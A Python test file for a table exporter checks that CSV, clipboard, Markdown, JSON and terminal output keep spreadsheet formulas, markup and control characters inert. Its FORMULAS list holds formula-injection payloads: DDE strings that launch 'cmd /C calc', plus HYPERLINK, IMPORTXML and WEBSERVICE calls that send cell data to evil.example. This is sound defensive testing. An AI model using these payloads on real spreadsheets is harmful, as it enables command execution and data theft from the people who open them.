"""Sheets as text: read back they are what they were, and nothing in them comes to life."""

import csv
import io
import json
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from weighbridge.catalog.catalog import Catalog
from weighbridge.columns import plain_number
from weighbridge.comparison.compare import compare
from weighbridge.exports.lineup_sheets import comparison_sheet
from weighbridge.exports.sheet import Sheet, SheetCell, table_sheet
from weighbridge.exports.writers import (
    csv_text,
    json_text,
    markdown_text,
    tab_separated_text,
    terminal_text,
)

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "==1",
    "=",
    "=A1",
    '="x"',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
]
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def sheet(*rows: tuple[str, ...], headers: tuple[str, ...] = ()) -> Sheet:
    width = len(rows[0]) if rows else len(headers)
    heads = headers or tuple(f"H{place}" for place in range(width))
    return Sheet(heads, tuple(tuple(SheetCell(text) for text in row) for row in rows))


def numbers(*texts: str) -> Sheet:
    return Sheet(("N",), tuple((SheetCell(text, is_number=True),) for text in texts))


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def whole(catalog: Catalog, *, with_evidence: bool) -> Sheet:
    rows = range(len(catalog.frame))
    return table_sheet(catalog, rows, list(catalog.columns.values()), with_evidence=with_evidence)


# CSV


@pytest.mark.parametrize("with_evidence", [True, False])
def test_csv_read_back_is_the_table(small_catalog: Catalog, with_evidence: bool) -> None:
    table = whole(small_catalog, with_evidence=with_evidence)
    expected = [list(table.headers), *([cell.text for cell in row] for row in table.rows)]
    assert read_csv(csv_text(table)) == expected


def test_csv_read_back_is_the_comparison(small_catalog: Catalog) -> None:
    comparison = compare(small_catalog, ["acme/willow-2", "acme/oak-3", "nimbus/nebula"])
    table = comparison_sheet(comparison)
    assert read_csv(csv_text(table))[1:] == [[cell.text for cell in row] for row in table.rows]


@given(
    rows=st.lists(
        st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2),
        max_size=5,
    )
)
def test_raw_csv_keeps_any_text(rows: list[list[str]]) -> None:
    table = sheet(*(tuple(row) for row in rows), headers=("A", "B"))
    assert read_csv(csv_text(table, raw=True)) == [["A", "B"], *rows]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_inert_in_csv_cells_and_headers(text: str) -> None:
    header, (cell, plain) = read_csv(csv_text(sheet((text, "plain"), headers=(text, "H"))))
    assert header == [f"'{text}", "H"]
    assert (cell, plain) == (f"'{text}", "plain")


@pytest.mark.parametrize("text", FORMULAS)
def test_raw_csv_leaves_a_formula_as_it_is(text: str) -> None:
    assert read_csv(csv_text(sheet((text,), headers=(text,)), raw=True)) == [[text], [text]]


@given(text=st.text(st.characters(exclude_categories=["Cs"])))
def test_no_cell_of_any_text_begins_like_a_formula(text: str) -> None:
    for line in read_csv(csv_text(sheet((text, "x"), headers=(text, "H")))):
        assert not line[0].startswith(STARTS)
        assert line[0] in (text, f"'{text}")


def test_numbers_stay_numbers_even_below_zero() -> None:
    assert csv_text(numbers("-1.5", "0", "1048576")) == "N\r\n-1.5\r\n0\r\n1048576\r\n"


@pytest.mark.parametrize("text", ["Oak 3", "a=1", "2026-06-02", "x@y", "'quoted'", "", "unknown"])
def test_harmless_text_is_not_touched(text: str) -> None:
    assert read_csv(csv_text(sheet((text, "x"))))[1] == [text, "x"]


# Numbers


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (0.0, "0"),
        (-0.0, "0"),
        (0.00001, "0.00001"),
        (1e-7, "0.0000001"),
        (0.1, "0.1"),
        (1.10, "1.1"),
        (3.0, "3"),
        (-2.5, "-2.5"),
        (1048576.0, "1048576"),
        (1e16, "10000000000000000"),
        (1e22, "10000000000000000000000"),
        (88.55, "88.55"),
    ],
)
def test_numbers_are_plain(number: float, text: str) -> None:
    assert plain_number(number) == text


@given(number=st.floats(allow_nan=False, allow_infinity=False))
def test_any_number_is_plain_and_read_back_the_same(number: float) -> None:
    text = plain_number(number)
    assert re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text)
    assert float(text) == number


@given(thousandths=st.integers(0, 10**7))
def test_a_number_with_few_decimals_shows_no_more(thousandths: int) -> None:
    text = plain_number(thousandths / 1000)
    assert len(text.partition(".")[2]) <= 3


# Tab-separated


def test_tab_separated_text_has_headers_only_if_asked() -> None:
    table = sheet(("a", "b"), ("c", "d"))
    assert tab_separated_text(table, with_headers=True) == "H0\tH1\na\tb\nc\td"
    assert tab_separated_text(table, with_headers=False) == "a\tb\nc\td"


def test_tabs_and_line_ends_in_cells_become_blanks() -> None:
    table = sheet(("a\tb", "c\r\nd\u2028e"))
    assert tab_separated_text(table, with_headers=False) == "a b\tc d e"


@pytest.mark.parametrize("blanks", ["", " ", "\t", "\n \u00a0", "\x0b"])
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_inert_on_the_clipboard_even_behind_blanks(text: str, blanks: str) -> None:
    table = sheet((blanks + text, "x"), headers=(blanks + text, "H"))
    for line in tab_separated_text(table, with_headers=True).split("\n"):
        assert line.startswith("'")


def test_numbers_on_the_clipboard_stay_numbers() -> None:
    assert tab_separated_text(numbers("-1.5"), with_headers=False) == "-1.5"


# JSON


def test_json_has_an_object_a_row_with_numbers_and_nulls(small_catalog: Catalog) -> None:
    rows = json.loads(json_text(whole(small_catalog, with_evidence=False)))
    by_name = {row["Name"]: row for row in rows}
    assert by_name["Oak 3"]["Context (tokens)"] == 400000
    assert isinstance(by_name["Oak 3"]["Context (tokens)"], int)
    assert by_name["Willow 2"]["Cached input (USD/M tokens)"] == 0.00001
    assert by_name["Nebula"]["License"] is None
    assert by_name["Oak 3"]["Released"] == "2026-06-02"


def test_json_keeps_columns_of_one_header_apart() -> None:
    table = sheet(("x", "y", "z"), headers=("Twin", "Twin", "Other"))
    assert json.loads(json_text(table)) == [{"Twin": "x", "Twin (2)": "y", "Other": "z"}]


def test_json_of_no_rows_is_an_empty_list() -> None:
    assert json.loads(json_text(Sheet(("A",), ()))) == []


def test_json_leaves_formulas_and_letters_of_all_scripts_as_they_are() -> None:
    assert '"=1+1"' in json_text(sheet(("=1+1",)))
    assert '"模型 é"' in json_text(sheet(("模型 é",)))


# Markdown


def read_markdown(text: str) -> list[list[str]]:
    """Rows of cells: split at bars that are not escaped, escapes undone, as a renderer does."""
    lines = []
    for line in text.splitlines():
        assert line.startswith("| ")
        assert line.endswith(" |")
        cells = re.findall(r"((?:\\.|[^|\\])*)\|", line[1:])
        lines.append([re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", cell[1:-1]) for cell in cells])
    return lines


def test_markdown_read_back_is_the_comparison(small_catalog: Catalog) -> None:
    table = comparison_sheet(compare(small_catalog, ["acme/willow-2", "acme/oak-3"]))
    header, _, *rows = read_markdown(markdown_text(table))
    assert header == list(table.headers)
    assert rows == [
        [f"**{cell.text}**" if cell.mark else cell.text for cell in row] for row in table.rows
    ]


def test_markdown_aligns_columns_of_numbers_to_the_right() -> None:
    one, unknown = SheetCell("1", is_number=True), SheetCell("unknown")
    table = Sheet(("A", "B", "C"), ((SheetCell("x"), one, unknown), (one, unknown, unknown)))
    assert markdown_text(table).splitlines()[1] == "| --- | ---: | --- |"


@pytest.mark.parametrize(
    "text",
    [
        *("a|b", "*a*", "_a_", "`a`", "<b>a</b>", "[a](http://b.example)", "![a](b)", "~~a~~"),
        *("# a", "a\\", "\\|", "&lt;b&gt;", "$a$", "<!-- a -->", "<script>alert(1)</script>"),
    ],
)
def test_markup_in_a_markdown_cell_is_inert(text: str) -> None:
    row = markdown_text(sheet((text, "x"))).splitlines()[2]
    assert not re.search(r"(?<!\\)(?:\\\\)*[*_`<>\[\]~#&$!]", row)
    assert read_markdown(f"{row}\n") == [[text, "x"]]


def test_a_line_end_in_a_cell_does_not_end_the_markdown_row() -> None:
    assert len(markdown_text(sheet(("a\nb\u2028c", "x"))).splitlines()) == 3


# Terminal


def width(text: str) -> int:
    """Columns in a terminal, by Unicode's own tables."""
    wide = sum(unicodedata.east_asian_width(each) in "WF" for each in text)
    marks = sum(unicodedata.category(each) in ("Mn", "Me") for each in text)
    return len(text) + wide - marks


def test_columns_are_aligned_whatever_the_width_of_the_characters() -> None:
    cells = ["plain", "模型四", "e\u0301te\u0301", "한국어 모델", "\uff4f\uff41\uff4b", "❤\ufe0f"]
    lines = terminal_text(sheet(*((text, "end") for text in cells))).splitlines()
    for line in (lines[0], *lines[2:]):
        before, _, _ = line.rpartition("end") if "end" in line else line.rpartition("H1")
        assert width(before) == 13, line
    assert lines[1] == "-" * 11 + "  ---"


def test_numbers_are_aligned_to_the_right() -> None:
    table = Sheet(("N",), tuple((SheetCell(each, is_number=True),) for each in ("1", "1000")))
    assert terminal_text(table) == "   N\n----\n   1\n1000\n"


@pytest.mark.parametrize(
    ("character", "shown"),
    [
        ("\x1b", r"\x1b"),
        ("\x00", r"\x00"),
        ("\n", r"\n"),
        ("\t", r"\t"),
        ("\x9b", r"\x9b"),
        ("\u202e", r"\u202e"),
        ("\u200d", r"\u200d"),
        ("\ufeff", r"\ufeff"),
        ("\u2028", r"\u2028"),
        ("\u2029", r"\u2029"),
        ("\U000e0001", r"\U000e0001"),
    ],
)
def test_control_characters_are_shown_and_not_sent(character: str, shown: str) -> None:
    text = terminal_text(sheet((f"a{character}[2Jb", "x"), headers=(f"H{character}", "I")))
    lines = text.split("\n")
    assert len(lines) == 4
    assert character not in "".join(lines)
    assert f"a{shown}[2Jb" in lines[2]
    assert f"H{shown}" in lines[0]


def test_a_table_without_rows_is_its_headers() -> None:
    assert terminal_text(Sheet(("Name", "Tier"), ())) == "Name  Tier\n----  ----\n"


@given(rows=st.lists(st.tuples(st.text(max_size=6), st.text(max_size=6)), max_size=4))
def test_a_terminal_gets_one_printable_line_a_row(rows: list[tuple[str, str]]) -> None:
    text = terminal_text(sheet(*rows, headers=("A", "B")))
    lines = text.split("\n")
    assert len(lines) == len(rows) + 3
    hidden = ("Cc", "Cf", "Cs", "Zl", "Zp")
    assert not [each for line in lines for each in line if unicodedata.category(each) in hidden]
